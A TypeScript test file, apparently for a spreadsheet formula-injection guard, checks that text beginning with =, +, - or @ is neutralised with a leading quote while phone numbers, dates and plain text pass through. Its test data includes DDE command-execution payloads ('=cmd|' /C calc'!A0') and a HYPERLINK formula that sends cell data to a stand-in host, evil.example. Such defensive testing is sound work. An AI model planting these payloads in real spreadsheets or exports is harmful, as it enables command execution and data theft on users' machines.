import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { guardFormula } from "../../src/formats/formula.ts";

describe("text that a spreadsheet would run is neutralised", () => {
  test.each([
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+A1",
    "-A1",
    "--A1",
    "-e5",
    "+e5",
    "-x12",
    "--x12",
    "+ x12",
    "+(A1)",
    "-(A1)",
    "+1+cmd|' /C calc'!A0",
    "-1-A1",
    "-5.00=A1",
    "+1 (212) 555-0100=A1",
    "+1 (212) 555-0100 HYPERLINK",
    "=",
    "==",
    "@",
    "@handle",
    "- note",
    "+",
    "\tplain",
    " =1",
    "\u00a0=1",
    "\ufeff=1",
    "＝1+1",
    "＋A1",
    "－A1",
    "＠A1",
    '=HYPERLINK("https://evil.example?"&A1)',
  ])("%j", (text) => {
    expect(guardFormula(text)).toBe(`'${text}`);
  });
});

describe("a part that becomes a cell of its own where something else divides cells is neutralised", () => {
  test.each([
    ["x;=cmd", "x;'=cmd"],
    ["x\t=cmd", "x\t'=cmd"],
    ["x\n=cmd", "x\n'=cmd"],
    ["x\r\n=cmd", "x\r\n'=cmd"],
    ["x; +A1", "x; '+A1"],
    ['x;"=cmd"', 'x;\'"=cmd"'],
    ['x;" =cmd"', 'x;\'" =cmd"'],
    ["x;;@A1", "x;;'@A1"],
    ["x;-5;-A1", "x;-5;'-A1"],
    ["x;+1,cmd", "x;'+1,cmd"],
    ["+12125550100; =A1", "'+12125550100; '=A1"],
    ["+12125550100; ; =A1", "'+12125550100; ; '=A1"],
    ["\t=1", "'\t'=1"],
    ["\r=1", "'\r'=1"],
    ["\n=1", "'\n'=1"],
  ])("%j", (text, guarded) => {
    expect(guardFormula(text)).toBe(guarded);
  });
});

describe("everything else stays as it is", () => {
  test.each([
    "",
    "Ada Lovelace",
    "+49 30 23125 000; ; 415.555.0123",
    "+49 30 23125 000; ",
    "-5.00",
    "-5",
    "+3",
    "1e5",
    "-1e5",
    "+1.5E-3",
    "-.5",
    "-1,234.56",
    "-12%",
    "-$5.00",
    "+€3",
    "+12125550100",
    "+55 11 5550-0184; (11) 5550-0111; 030/23125585",
    "+1 (212) 555-0100",
    "+1-212-555-0100",
    "+1.212.555.0100",
    "+353 1 555 0100",
    "+(353) 1 555 0100",
    "+1 212 555 0100 x12",
    "+1 212 555 0100 ext. 12",
    "-",
    "--",
    "---",
    "- -",
    "2026-11-23",
    "11/23/2026",
    "2026-11-23T12:00:00Z",
    "a=b",
    "someone@example.com",
    "x+y",
    "'quoted",
    "0042",
    "call; +12125550100; at home",
    "x;-5.00;2026-11-23",
    "x\t-1e5",
    "a;'=b",
    "a, b; c-d\te=f",
    "Smith, =Ada, -5",
    " plain",
  ])("%j", (text) => {
    expect(guardFormula(text)).toBe(text);
  });
});

test("text is only ever left alone or given marks, and what was guarded once stays as it is", () => {
  fc.assert(
    fc.property(
      fc.string({ unit: fc.constantFrom(...Array.from('=+-@\t\r\n;," 01.(/)eExXtA|!＝')) }),
      (text) => {
        const guarded = guardFormula(text);
        expect(guarded.replaceAll("'", "")).toBe(text);
        expect(guardFormula(guarded)).toBe(guarded);
      },
    ),
    { numRuns: 1000 },
  );
});

test("whatever begins like a formula and holds a letter that is no exponent or extension is neutralised", () => {
  fc.assert(
    fc.property(
      fc.constantFrom("=", "+", "-", "@"),
      fc.string({ unit: fc.constantFrom(...Array.from("01+-*(). ")) }),
      fc.constantFrom("A1", "cmd|'x'!A0", "SUM(A1)", "B2:C3"),
      (sign, filling, call) => {
        expect(guardFormula(sign + filling + call)).toBe(`'${sign}${filling}${call}`);
      },
    ),
    { numRuns: 1000 },
  );
});
